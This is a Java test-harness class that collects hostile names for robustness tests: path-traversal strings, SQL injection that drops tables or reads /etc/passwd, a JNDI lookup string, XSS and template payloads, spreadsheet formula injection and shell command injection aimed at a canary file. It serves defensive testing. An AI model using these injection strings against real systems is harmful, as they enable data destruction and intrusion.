package laurel.harness;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Texts that make trouble where somebody takes them for a path, SQL, HTML, a formula or a shell.
 */
final class HostileNames {
    private HostileNames() {}

    /**
     * More than a hundred, none equal to another.
     *
     * @param canary a file that must not come to be
     */
    static List<String> all(Path canary) {
        List<String> all = new ArrayList<>();
        all.addAll(paths());
        all.addAll(sql(canary));
        all.addAll(markup());
        all.addAll(formulas());
        all.addAll(shells(canary));
        all.addAll(odd());
        return all;
    }

    private static List<String> paths() {
        return List.of(
                ".",
                "..",
                "../",
                "../../../../../../etc/passwd",
                "..\\..\\windows",
                "/",
                "//",
                "/etc/passwd",
                "a/b",
                "a\\b",
                "~",
                "~root",
                "%2e%2e%2f",
                "%00",
                "%",
                "file:///etc/passwd",
                "C:\\",
                "C:",
                "CON",
                "con",
                "NUL",
                "nul.txt",
                "PRN",
                "AUX",
                "COM1",
                "LPT1",
                "desktop.ini",
                ".htaccess",
                ".hidden",
                "-rf",
                "--help",
                "a:b",
                "a*b?",
                "__HIVE_DEFAULT_PARTITION__",
                "season=x",
                "season=../x",
                "CURRENT.json",
                "MANIFEST.json");
    }

    private static List<String> sql(Path canary) {
        return List.of(
                "'",
                "''",
                "\"",
                "`",
                ";",
                "--",
                "/*",
                "*/",
                "' or '1'='1",
                "'; drop table ledger; --",
                "'); drop table ledger; --",
                "\"; drop view ledger; --",
                "' union select * from read_text('/etc/passwd') --",
                "'; copy (select 1) to '" + canary + "'; --",
                "'; attach '" + canary + "' as x; --",
                "1; select pg_sleep(9)",
                "{{1+1}}",
                "${jndi:ldap://x/a}",
                "$1",
                "?",
                ":name",
                "\\",
                "\\'",
                "%s%n%d",
                "{0}",
                "null",
                "NULL",
                "None",
                "undefined",
                "true",
                "0",
                "-1",
                "NaN",
                "1e309");
    }

    private static List<String> markup() {
        return List.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg/onload=alert(1)>",
                "javascript:alert(1)",
                "&lt;",
                "&#x27;",
                "<!--",
                "]]>",
                "<?php echo 1 ?>",
                "{{firstname}}",
                "{{{email}}}",
                "{{> partial}}",
                "{{#each}}",
                "[link](javascript:alert(1))",
                "![](http://x/y.png)",
                "<b>bold");
    }

    private static List<String> formulas() {
        return List.of(
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://x\",\"y\")",
                "=IMPORTXML(\"http://x\",\"//a\")",
                "|calc",
                "\uFF1D1+1",
                "\uFF20SUM(1)",
                "'=1+1",
                "a\"=1+1");
    }

    private static List<String> shells(Path canary) {
        return List.of(
                "$(touch " + canary + ")",
                "`touch " + canary + "`",
                "; touch " + canary,
                "| touch " + canary,
                "&& touch " + canary,
                "> " + canary,
                "$HOME",
                "${env:HOME}",
                "${file:/etc/passwd}");
    }

    /** NUL is not among them: it rejects a row, which other tests hold. */
    private static List<String> odd() {
        return List.of(
                "x".repeat(300),
                "x".repeat(5000),
                "\u00E9".repeat(300),
                "\uD83D\uDE00".repeat(100),
                "Black Friday",
                "BLACK FRIDAY",
                "black friday",
                "black-friday",
                "anna",
                "Anna",
                "ANNA",
                "\u0130",
                "\u0131",
                "stra\u00DFe",
                "STRASSE",
                "e\u0301",
                "\u202Egnp.exe",
                "\u200B",
                "a\u200Bb",
                "\u2066x\u2069",
                "\uFFFD",
                "\uFDFA",
                "\u0001",
                "\u001B[31mred",
                "a\u0008b",
                "a\u007Fb",
                "a\u0085b",
                "a\u2028b",
                "a,b",
                "a|b",
                "a=b",
                "a;b",
                "a\tb",
                "a  b",
                "\u0E01\u0E33\u0E33\u0E33",
                "Z\u0351\u036B\u0343\u036Aalgo",
                "\u0645\u0631\u062D\u0628\u0627");
    }
}
